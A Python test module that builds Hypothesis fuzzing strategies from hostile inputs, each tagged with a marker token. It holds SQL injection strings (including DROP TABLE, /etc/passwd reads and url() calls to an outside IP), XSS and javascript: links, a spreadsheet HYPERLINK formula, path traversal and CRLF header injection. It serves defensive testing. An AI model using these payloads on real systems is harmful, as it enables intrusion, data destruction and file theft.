"""What people with bad intentions type, and what nobody means to."""

from __future__ import annotations

from typing import Final

from hypothesis import strategies as st

TOKEN: Final = "zq7x"
"""Stands in every hostile value, so that it can be found where it must not be."""

HOSTILE: Final = (
    f"{TOKEN}' OR 1=1 --",
    f"{TOKEN}'; DROP TABLE http_logs; --",
    f"{TOKEN}\\'; SELECT sleep(3) --",
    f"{TOKEN}') UNION ALL SELECT 1 FROM url('http://203.0.113.99/') --",
    f"{TOKEN}*/ SELECT file('/etc/passwd') /*",
    f"{{{TOKEN}:Identifier}}",
    f"`{TOKEN}`.`x`",
    f"%({TOKEN})s %s {{}}",
    f"<img src=x onerror=alert('{TOKEN}')>",
    f"![{TOKEN}](http://203.0.113.99/{TOKEN}.png)",
    f"[{TOKEN}](javascript:alert(1)) :red[x] $\\frac{{1}}{{2}}$",
    f'=HYPERLINK("http://203.0.113.99/{TOKEN}")',
    f"../../{TOKEN}/etc/passwd",
    f"{TOKEN}\u202e\u0000\u001b[31m\ufeff\U0001f98a",
    f"{TOKEN}\r\nSet-Cookie: x=1",
    f"!{TOKEN}",
    f"host:{TOKEN}' OR '1",
    f"{TOKEN}" + "A" * 5000,
)

NUMBERS: Final = ("-1", "0", "99999999999999999999", "1e999", "NaN", "0x10", "٣", "1;2", " 7 ", "")

hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(NUMBERS),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=60).map(lambda text: TOKEN + text),
)
"""Any of them, or any text at all with the token in front."""
